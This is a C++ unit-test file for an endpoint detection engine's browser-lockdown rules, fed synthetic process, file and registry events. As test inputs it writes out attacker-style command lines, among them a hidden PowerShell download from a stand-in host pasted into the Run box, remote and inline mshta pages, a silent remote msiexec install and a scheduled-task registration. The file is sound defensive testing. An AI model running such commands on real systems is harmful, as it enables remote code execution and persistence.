// SPDX-FileCopyrightText: 2026 The bartizan authors
// SPDX-License-Identifier: Apache-2.0
// Browser lockdown end to end, on synthetic streams: the vectors L1-01 to L1-08 of its specification, one case for each line of what must
// not fire, mutation pairs, PID reuse and starts that no sensor saw.
#include <gtest/gtest.h>

#include <bartizan/engine/engine.hpp>
#include <bartizan/testing/raw_events.hpp>
#include <memory>
#include <string>
#include <vector>

namespace {

using namespace bartizan;
using namespace bartizan::testing;
using operation = file_payload::operation;

constexpr text chrome = u"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
constexpr text firefox = u"C:\\Program Files\\Mozilla Firefox\\firefox.exe";
constexpr text iexplore = u"C:\\Program Files\\Internet Explorer\\iexplore.exe";
constexpr text explorer = u"C:\\Windows\\explorer.exe";
constexpr text powershell = u"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr text cmd = u"C:\\Windows\\System32\\cmd.exe";
constexpr text mshta = u"C:\\Windows\\System32\\mshta.exe";
constexpr text wscript = u"C:\\Windows\\System32\\wscript.exe";
constexpr text conhost = u"C:\\Windows\\System32\\conhost.exe";
constexpr text svchost = u"C:\\Windows\\System32\\svchost.exe";
constexpr text calc = u"C:\\Windows\\System32\\calc.exe";
constexpr text devenv = u"C:\\Program Files\\Microsoft Visual Studio\\devenv.exe";
constexpr text setup = u"C:\\Users\\a\\Downloads\\setup.exe";

/// What the lockdown rules said about one event.
struct answer {
    verdict worst = verdict::none;
    bool denied = false;  ///< before the operation
    field_set blind;
    std::string rules;
};

class endpoint {
  public:
    explicit endpoint(policy::settings settings = {}) : engine_(std::make_unique<engine::engine<64>>(settings)) {}

    answer feed(event e) {
        e.time_100ns = time_ += policy::second_100ns;
        answer out;
        engine_->process_event(e, [&](const rule& r, const outcome& o, const event&) {
            if (r.group != family::lockdown) return;
            if (o.evidence > out.worst) out.worst = o.evidence;
            out.blind.bits |= o.blind.bits;
            if (o.evidence != verdict::none) out.rules += std::string(r.name) + ' ';
        });
        out.denied = rules::before(e).what == pre_outcome::decision::deny;
        last_ = e;
        return out;
    }
    template <class Builder>
    answer feed(const Builder& b) { return feed(b.build()); }

    /// A desktop whose ancestry is known: userinit -> explorer (pid 100).
    endpoint& desktop() {
        feed(process_start(50, u"C:\\Windows\\System32\\userinit.exe", 40, u"C:\\Windows\\System32\\winlogon.exe").command_line(u"userinit.exe"));
        feed(process_start(100, explorer, 50).command_line(u"C:\\Windows\\Explorer.EXE"));
        return *this;
    }
    void wait(uint64_t seconds) { time_ += seconds * policy::second_100ns; }
    [[nodiscard]] lockdown_label label() const { return last_.actor.lockdown; }

  private:
    std::unique_ptr<engine::engine<64>> engine_;
    uint64_t time_ = 1000 * policy::second_100ns;
    event last_;
};

process_start start(uint32_t pid, text image, uint32_t parent, text line = u"x y") {
    return process_start(pid, image, parent).command_line(line);
}

bool convicts(const answer& a) { return a.worst == verdict::convict && a.denied; }
bool silent(const answer& a) { return a.worst == verdict::none && !a.denied; }

// ---- vectors -------------------------------------------------------------------------------------------------------------------

TEST(lockdown_vectors, l1_01_chrome_starts_powershell) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    EXPECT_TRUE(convicts(host.feed(start(300, powershell, 200))));
}

TEST(lockdown_vectors, l1_02_html_application_out_of_the_cache_then_renamed_powershell) {
    endpoint host;
    host.desktop().feed(start(200, iexplore, 100));
    const answer page = host.feed(start(300, mshta, 200, u"mshta.exe \"C:\\Users\\a\\AppData\\Local\\Microsoft\\Windows\\Temporary Internet Files\\x.hta\""));
    EXPECT_EQ(page.worst, verdict::event);
    EXPECT_FALSE(page.denied);
    EXPECT_EQ(host.label(), lockdown_label::browser_hta);
    host.feed(start(400, cmd, 300, u"cmd /c n.exe"));
    EXPECT_EQ(host.label(), lockdown_label::browser_hta);
    EXPECT_TRUE(convicts(host.feed(start(500, u"C:\\Users\\a\\n.exe", 400).original_file_name(u"pwsh.dll"))));
}

TEST(lockdown_vectors, l1_03_downloaded_installer_starts_powershell) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(file_change(200, chrome, operation::create, setup));
    EXPECT_TRUE(silent(host.feed(start(300, setup, 200))));
    EXPECT_EQ(host.label(), lockdown_label::none);
    EXPECT_TRUE(silent(host.feed(start(400, powershell, 300))));
}

TEST(lockdown_vectors, l1_04_downloaded_html_application_opened_from_the_desktop) {
    for (const bool downloaded : {true, false}) {
        endpoint host;
        host.desktop().feed(start(200, chrome, 100));
        const text page = u"C:\\Program Files\\Vendor\\x.hta";  // a place that administrators write: only the origin convicts
        host.feed(file_change(downloaded ? 200 : 100, downloaded ? chrome : explorer, operation::create, page));
        host.feed(start(300, mshta, 100, u"\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Program Files\\Vendor\\x.hta\""));
        EXPECT_EQ(host.label(), downloaded ? lockdown_label::browser_hta : lockdown_label::none);
        EXPECT_EQ(convicts(host.feed(start(400, powershell, 300))), downloaded);
    }
}

TEST(lockdown_vectors, l1_05_com_server_on_a_browsers_behalf) {
    for (const bool client_known : {true, false}) {
        endpoint host;
        host.desktop().feed(start(200, iexplore, 100));
        host.feed(start(60, svchost, 55, u"svchost.exe -k DcomLaunch"));
        process_start server = start(300, mshta, 60, u"C:\\Windows\\System32\\mshta.exe -Embedding");
        if (client_known) server.client(200);
        const answer a = host.feed(server);
        EXPECT_EQ(a.worst, verdict::event);
        EXPECT_FALSE(a.denied);
        EXPECT_EQ(host.label(), client_known ? lockdown_label::browser_hta : lockdown_label::unknown);
        const answer child = host.feed(start(400, powershell, 300));
        EXPECT_EQ(convicts(child), client_known);
        EXPECT_EQ(child.blind.has(field::lineage), !client_known);
    }
}

TEST(lockdown_vectors, l1_05_without_the_client_says_what_it_lacks) {
    endpoint host;
    host.desktop();
    host.feed(start(60, svchost, 55, u"svchost.exe -k DcomLaunch"));
    const answer a = host.feed(start(300, mshta, 60, u"C:\\Windows\\System32\\mshta.exe -Embedding"));
    EXPECT_EQ(a.worst, verdict::event);
    host.feed(start(400, cmd, 300));
    EXPECT_EQ(host.label(), lockdown_label::unknown);
}

constexpr text native_line = u"C:\\Windows\\system32\\cmd.exe /d /c \"C:\\Program Files\\Vendor\\host.bat\" chrome-extension://abc/ --parent-window=0 < "
                             u"\\\\.\\pipe\\chrome.nativeMessaging.in.1f > \\\\.\\pipe\\chrome.nativeMessaging.out.1f";

TEST(lockdown_vectors, l1_06_native_messaging) {
    const text allowed[] = {u"C:\\PROGRAM FILES\\VENDOR\\HOST.BAT"};
    const text another[] = {u"C:\\PROGRAM FILES\\VENDOR\\OTHER.BAT"};
    for (const span<const text> hosts : {span<const text>(allowed), span<const text>(another), span<const text>()}) {
        policy::settings settings;
        settings.native_hosts = hosts;
        endpoint host(settings);
        host.desktop().feed(start(200, chrome, 100));
        EXPECT_TRUE(silent(host.feed(start(300, cmd, 200, native_line)))) << "the host itself always runs";
        EXPECT_EQ(silent(host.feed(start(400, powershell, 300))), hosts.data == allowed);
    }
}

TEST(lockdown_vectors, l1_07_an_ide_starts_both) {
    endpoint host;
    host.desktop().feed(start(150, devenv, 100));
    EXPECT_TRUE(silent(host.feed(start(200, chrome, 150))));
    EXPECT_TRUE(silent(host.feed(start(300, powershell, 150))));
}

TEST(lockdown_vectors, l1_08_file_dialog_of_a_utility_process) {
    struct utility {
        text browser;
        text line;
        bool dialog;
    };
    for (const utility& u : {utility{firefox, u"firefox.exe -contentproc -parentBuildID 1 9 utility", true},
                             utility{chrome, u"chrome.exe --type=utility --service-sandbox-type=none --message-loop-type-ui", true},
                             utility{chrome, u"chrome.exe --type=utility --service-sandbox-type=none", false}}) {
        endpoint host;
        host.desktop().feed(start(200, u.browser, 100, u.line));
        EXPECT_TRUE(convicts(host.feed(start(300, powershell, 200))));
        const answer shell = host.feed(start(400, cmd, 200));
        EXPECT_EQ(convicts(shell), u.dialog) << "any interpreter out of the dialog";
    }
}

// ---- evasions ------------------------------------------------------------------------------------------------------------------

TEST(lockdown, the_label_passes_through_shells_and_not_through_applications) {
    for (const text link : {cmd, text(u"C:\\Windows\\System32\\rundll32.exe"), text(u"C:\\Windows\\System32\\forfiles.exe"), wscript, conhost,
                            text(u"C:\\Windows\\SysWOW64\\regsvr32.exe"), explorer, text(u"C:\\Windows\\System32\\wbem\\WMIC.exe")}) {
        endpoint host;
        host.desktop().feed(start(200, chrome, 100));
        host.feed(start(300, link, 200));
        EXPECT_TRUE(convicts(host.feed(start(400, powershell, 300))));
    }
    for (const text link : {text(u"C:\\Program Files\\Zoom\\Zoom.exe"), text(u"C:\\Program Files\\Adobe\\Acrobat.exe"), devenv}) {
        endpoint host;
        host.desktop().feed(start(200, chrome, 100));
        host.feed(start(300, link, 200));
        EXPECT_TRUE(silent(host.feed(start(400, powershell, 300))));
    }
}

TEST(lockdown, a_spoofed_parent_does_not_shake_the_label_off) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(start(300, cmd, 200));
    EXPECT_TRUE(convicts(host.feed(start(400, powershell, 100).creator(300))));
    EXPECT_TRUE(silent(host.feed(start(500, powershell, 100).creator(100))));
}

TEST(lockdown, powershell_by_its_engine_library_in_any_process) {
    const text engine_library = u"C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\1\\System.Management.Automation.ni.dll";
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    EXPECT_EQ(host.feed(image_load(200, chrome, engine_library)).worst, verdict::convict) << "in the browser itself";
    host.feed(start(300, u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", 200));
    EXPECT_EQ(host.feed(image_load(300, {}, engine_library)).worst, verdict::convict) << "in a labelled builder";
    EXPECT_EQ(host.feed(image_load(300, {}, u"C:\\Windows\\System32\\ole32.dll")).worst, verdict::none);
    host.feed(start(400, u"C:\\Tools\\runspace.exe", 100));
    EXPECT_EQ(host.feed(image_load(400, {}, engine_library)).worst, verdict::none) << "PowerShell elsewhere is its own business";
}

TEST(lockdown, script_hosts_take_the_browsers_lockdown_and_act_on_it) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(file_change(200, chrome, operation::create, u"C:\\Users\\a\\Downloads\\invoice.js"));
    host.feed(start(300, wscript, 100, u"wscript.exe \"C:\\Users\\a\\Downloads\\invoice.js\""));
    EXPECT_EQ(host.label(), lockdown_label::browser_hta);
    EXPECT_TRUE(convicts(host.feed(start(400, calc, 300))));
    EXPECT_EQ(host.feed(connection(300, wscript)).worst, verdict::convict);
    host.feed(start(310, wscript, 100, u"wscript.exe \"C:\\Users\\a\\own.js\""));
    EXPECT_TRUE(silent(host.feed(start(410, calc, 310)))) << "a script that no browser brought";
    EXPECT_EQ(host.feed(connection(310, wscript)).worst, verdict::none);
}

TEST(lockdown, where_the_page_of_an_html_application_comes_from) {
    struct page {
        text line;
        bool foreign;
    };
    for (const page& p : {page{u"mshta vbscript:Execute(\"x\")", true}, page{u"mshta.exe  javascript:a=GetObject(\"script:x\")", true},
                          page{u"mshta http://a.example/x.hta", true}, page{u"mshta \\\\server\\share\\x.hta", true},
                          page{u"\"C:\\Windows\\System32\\mshta.exe\" \"C:\\ProgramData\\x.hta\"", true},
                          page{u"mshta \"C:\\Users\\a\\x.hta\"", true}, page{u"mshta \"C:\\Program Files\\Vendor\\console.hta\"", false},
                          page{u"mshta C:\\Windows\\System32\\oobe\\setup.hta", false}, page{u"mshta.exe", false}}) {
        endpoint host;
        host.desktop().feed(start(300, mshta, 100, p.line));
        EXPECT_EQ(host.label(), p.foreign ? lockdown_label::browser_hta : lockdown_label::none) << p.line.size;
        EXPECT_EQ(convicts(host.feed(start(400, calc, 300))), p.foreign);
    }
    endpoint host;
    host.desktop().feed(start(300, mshta, 100, {}));
    EXPECT_EQ(host.label(), lockdown_label::unknown) << "no command line";
    EXPECT_TRUE(host.feed(start(400, calc, 300)).blind.has(field::lineage));
}

TEST(lockdown, a_file_keeps_its_origin_through_a_rename_for_seven_days) {
    for (const uint64_t days : {1u, 6u, 8u}) {
        endpoint host;
        host.desktop().feed(start(200, chrome, 100));
        host.feed(file_change(200, chrome, operation::create, u"C:\\Users\\a\\Downloads\\1.crdownload"));
        host.feed(file_change(100, explorer, operation::rename, u"C:\\Users\\a\\Downloads\\1.crdownload", u"C:\\Users\\a\\Downloads\\x.js"));
        host.wait(days * 86'400);
        host.feed(start(300, wscript, 100, u"wscript.exe C:\\Users\\A\\downloads\\X.JS"));
        EXPECT_EQ(host.label() == lockdown_label::browser_hta, days < 7);
    }
}

TEST(lockdown, a_downloaded_script_in_powershell_is_recorded) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(file_change(200, chrome, operation::create, u"C:\\Users\\a\\Downloads\\fix.ps1"));
    const answer a = host.feed(start(300, powershell, 100, u"powershell.exe -File \"C:\\Users\\a\\Downloads\\fix.ps1\""));
    EXPECT_EQ(a.worst, verdict::event);
    EXPECT_FALSE(a.denied);
}

TEST(lockdown, a_command_pasted_into_the_run_box_is_recorded) {
    const text pasted = u"powershell -w hidden -c iwr https://a.example/x\\1";
    for (const uint64_t seconds : {1u, 50u, 70u}) {
        endpoint host;
        host.desktop().feed(registry_change(100, explorer, registry_payload::operation::set_value,
                                            u"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", u"a", pasted));
        host.wait(seconds);
        const answer a = host.feed(start(300, powershell, 100, u"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w hidden -c iwr https://a.example/x"));
        EXPECT_EQ(a.worst, seconds < 60 ? verdict::event : verdict::none);
        EXPECT_FALSE(a.denied);
    }
    endpoint host;
    host.desktop().feed(registry_change(100, explorer, registry_payload::operation::set_value,
                                        u"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", u"a", u"powershell\\1"));
    EXPECT_TRUE(silent(host.feed(start(300, powershell, 100, u"\"C:\\Windows\\System32\\powershell.exe\" ")))) << "a bare program name";
}

TEST(lockdown, work_that_a_browsers_descendant_registers) {
    const text schtasks = u"C:\\Windows\\System32\\schtasks.exe";
    const text line = u"schtasks /create /tn t /tr \"powershell -c x\"";
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(start(300, cmd, 200));
    EXPECT_EQ(host.feed(start(400, schtasks, 300, line)).worst, verdict::event);
    EXPECT_TRUE(silent(host.feed(start(410, schtasks, 300, u"schtasks /query"))));
    EXPECT_TRUE(silent(host.feed(start(420, schtasks, 100, line)))) << "an administrator's";
    host.feed(start(60, svchost, 55, u"svchost.exe -k netsvcs -s Schedule"));
    EXPECT_TRUE(convicts(host.feed(start(500, powershell, 60).client(400)))) << "the run, where the sensor names the registrar";
    EXPECT_TRUE(silent(host.feed(start(510, powershell, 60))));
}

// ---- must not fire -------------------------------------------------------------------------------------------------------------

TEST(lockdown_must_not_fire, what_browsers_start) {
    struct child {
        text image;
        text line;
    };
    for (const child& c : {child{chrome, u"chrome.exe --type=renderer"}, child{u"C:\\Program Files\\Google\\Chrome\\Application\\120.0\\elevation_service.exe", u"x"},
                           child{u"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", u"x"}, child{u"C:\\Program Files\\Mozilla Firefox\\pingsender.exe", u"x"},
                           child{u"C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe", u"x"},
                           child{u"C:\\Program Files (x86)\\Mozilla Maintenance Service\\maintenanceservice.exe", u"x"},
                           child{u"C:\\Windows\\splwow64.exe", u"splwow64.exe 12288"},
                           child{u"C:\\Windows\\System32\\rundll32.exe", u"rundll32.exe printui.dll,PrintUIEntry"},
                           child{u"C:\\Windows\\System32\\rundll32.exe", u"rundll32.exe inetcpl.cpl,ClearMyTracksByProcess 8"},
                           child{u"C:\\Windows\\System32\\rundll32.exe", u"rundll32.exe shell32.dll,OpenAs_RunDLL C:\\a.b"},
                           child{u"C:\\Windows\\System32\\rundll32.exe", u"rundll32.exe davclnt.dll,DavSetCookie a http://a"},
                           child{u"C:\\Windows\\System32\\rundll32.exe", u"rundll32.exe ndfapi.dll,NdfRunDllDiagnoseIncident"},
                           child{u"C:\\Windows\\System32\\rundll32.exe", u"rundll32.exe cryptext.dll,CryptExtOpenCER C:\\a.cer"},
                           child{u"C:\\Windows\\System32\\msiexec.exe", u"msiexec.exe /i C:\\Users\\a\\Downloads\\a.msi"},
                           child{u"C:\\Program Files\\Adobe\\Acrobat.exe", u"x"}, child{u"C:\\Program Files\\Vendor\\password_manager.exe", u"x"},
                           child{u"C:\\Users\\a\\AppData\\Local\\Microsoft\\Teams\\Teams.exe", u"x"}}) {
        endpoint host;
        host.desktop().feed(start(200, chrome, 100));
        EXPECT_TRUE(silent(host.feed(start(300, c.image, 200, c.line)))) << c.image.size << ' ' << c.line.size;
    }
}

TEST(lockdown_must_not_fire, a_downloaded_package_and_its_actions) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(start(300, u"C:\\Windows\\System32\\msiexec.exe", 200, u"msiexec.exe /i C:\\Users\\a\\Downloads\\a.msi"));
    EXPECT_EQ(host.label(), lockdown_label::none);
    EXPECT_TRUE(silent(host.feed(start(400, powershell, 300))));
    host.feed(start(310, u"C:\\Windows\\System32\\msiexec.exe", 200, u"msiexec.exe /q /i https://a.example/a.msi"));
    EXPECT_TRUE(convicts(host.feed(start(410, powershell, 310)))) << "a package that the command line fetches";
}

TEST(lockdown_must_not_fire, drivers_and_shells_that_are_no_browsers) {
    endpoint host;
    host.desktop();
    host.feed(start(150, u"C:\\Tools\\chromedriver.exe", 100));
    EXPECT_TRUE(silent(host.feed(start(200, chrome, 150))));
    EXPECT_TRUE(silent(host.feed(start(300, powershell, 150)))) << "the driver is the browser's parent, not its child";
    host.feed(start(160, u"C:\\Users\\a\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", 100));
    EXPECT_TRUE(silent(host.feed(start(310, powershell, 160)))) << "an Electron shell's terminal";
    EXPECT_TRUE(silent(host.feed(start(320, powershell, 100)))) << "the desktop, while a browser runs";
}

TEST(lockdown_must_not_fire, helpers_of_an_html_application) {
    endpoint host;
    host.desktop().feed(start(300, mshta, 100, u"mshta http://a.example/x.hta"));
    EXPECT_TRUE(silent(host.feed(start(400, u"C:\\Windows\\System32\\WerFault.exe", 300))));
    EXPECT_TRUE(silent(host.feed(start(410, iexplore, 300))));
    EXPECT_TRUE(silent(host.feed(start(420, conhost, 300, u"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"))));
    EXPECT_TRUE(convicts(host.feed(start(430, conhost, 300, u"conhost.exe --headless powershell"))));
}

TEST(lockdown, the_strict_policy_locks_every_other_child) {
    policy::settings strict;
    strict.lock_every_browser_child = true;
    endpoint host(strict);
    host.desktop().feed(start(200, chrome, 100));
    EXPECT_TRUE(convicts(host.feed(start(300, calc, 200))));
    EXPECT_TRUE(convicts(host.feed(start(310, setup, 200))));
    EXPECT_TRUE(silent(host.feed(start(320, chrome, 200))));
    EXPECT_TRUE(silent(host.feed(start(330, u"C:\\Program Files\\Google\\Chrome\\Application\\120.0\\notification_helper.exe", 200))));
    EXPECT_TRUE(silent(host.feed(start(340, u"C:\\Program Files\\Google\\Chrome\\Application\\120.0\\new_tool.exe", 200)))) << "below its directory";
    EXPECT_TRUE(convicts(host.feed(start(350, u"C:\\Program Files\\Google\\Chrome\\Application2\\x.exe", 200))));
    EXPECT_TRUE(silent(host.feed(start(360, calc, 100)))) << "the desktop stays free";
}

TEST(lockdown, a_policy_may_add_browsers) {
    const policy::image_name more[] = {{u"MSEDGEWEBVIEW2.EXE", role_set{}.with(role::browser)}};
    for (const bool added : {true, false}) {
        policy::settings settings;
        if (added) settings.image_names = more;
        endpoint host(settings);
        host.desktop().feed(start(200, u"C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\msedgewebview2.exe", 100));
        EXPECT_EQ(convicts(host.feed(start(300, powershell, 200))), added);
    }
}

// ---- missing starts, reused PIDs -----------------------------------------------------------------------------------------------

TEST(lockdown, a_browser_that_was_there_before_the_sensor) {
    endpoint host;
    EXPECT_TRUE(convicts(host.feed(process_start(300, powershell, 200, chrome).command_line(u"x")))) << "named by the start event";
    endpoint seen;
    seen.feed(connection(200, chrome));
    EXPECT_TRUE(convicts(seen.feed(start(300, powershell, 200)))) << "named by an earlier event";
}

TEST(lockdown, unknown_ancestry_is_blind_and_never_clean) {
    endpoint host;
    const answer of_shell = host.feed(process_start(300, powershell, 200, cmd).command_line(u"x"));
    EXPECT_EQ(of_shell.worst, verdict::none);
    EXPECT_TRUE(of_shell.blind.has(field::lineage)) << "who started the shell was not seen";
    const answer of_nobody = host.feed(process_start(310, powershell, 0).command_line(u"x"));
    EXPECT_TRUE(of_nobody.blind.has(field::lineage));
    const answer of_desktop = host.feed(process_start(320, powershell, 210, explorer).command_line(u"x"));
    EXPECT_TRUE(of_desktop.blind.empty()) << "the desktop is older than every browser";
}

TEST(lockdown, a_reused_pid_inherits_nothing) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(process_end(200, chrome));
    host.feed(start(200, devenv, 100));
    EXPECT_TRUE(silent(host.feed(start(300, powershell, 200))));
    host.feed(start(200, devenv, 100).command_line(u"again"));  // the exit of the first was lost
    host.feed(start(210, chrome, 100));
    EXPECT_TRUE(convicts(host.feed(start(310, powershell, 210))));
    host.wait(10);  // beyond what two sensors' reports of one start may differ by
    host.feed(start(210, u"C:\\Windows\\System32\\notepad.exe", 100));
    EXPECT_TRUE(silent(host.feed(start(320, powershell, 210)))) << "a start under a live PID ends the old process";
}

TEST(lockdown, two_sensors_reports_of_one_start_keep_the_stronger_label) {
    endpoint host;
    host.desktop().feed(start(200, chrome, 100));
    host.feed(start(300, cmd, 200));
    event bare = process_start(300, cmd, 0).build();
    host.feed(bare);
    EXPECT_EQ(host.label(), lockdown_label::browser);
}

TEST(lockdown, an_application_whose_start_was_not_seen_is_known_by_its_childs_event) {
    struct unseen {
        const char* what;
        text parent, parent_line;
        verdict expected;
    };
    const unseen cases[] = {
        {"a page from the network", mshta, u"mshta.exe http://x/a.hta", verdict::convict},
        {"inline script", mshta, u"mshta vbscript:close()", verdict::convict},
        {"a page in the user's profile", mshta, u"\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\a\\x.hta\"", verdict::convict},
        {"an administrator's page", mshta, u"mshta.exe \"C:\\Program Files\\Admin\\x.hta\"", verdict::none},
        {"the line was not recorded", mshta, u"", verdict::none},
        {"another host with the same line", u"C:\\Windows\\notepad.exe", u"mshta.exe http://x/a.hta", verdict::none},
    };
    for (const unseen& c : cases) {
        endpoint host;
        EXPECT_EQ(host.feed(process_start(202, powershell, 201, c.parent).command_line(u"powershell -nop").parent_command_line(c.parent_line)).worst, c.expected) << c.what;
    }
    endpoint host;
    host.desktop();
    host.feed(start(201, mshta, 100, u"mshta.exe \"C:\\Program Files\\Admin\\x.hta\""));
    const answer seen = host.feed(process_start(202, powershell, 201, mshta).command_line(u"powershell").parent_command_line(u"mshta.exe http://x/a.hta"));
    EXPECT_EQ(seen.worst, verdict::none) << "what its own start said stands";
}

}  // namespace
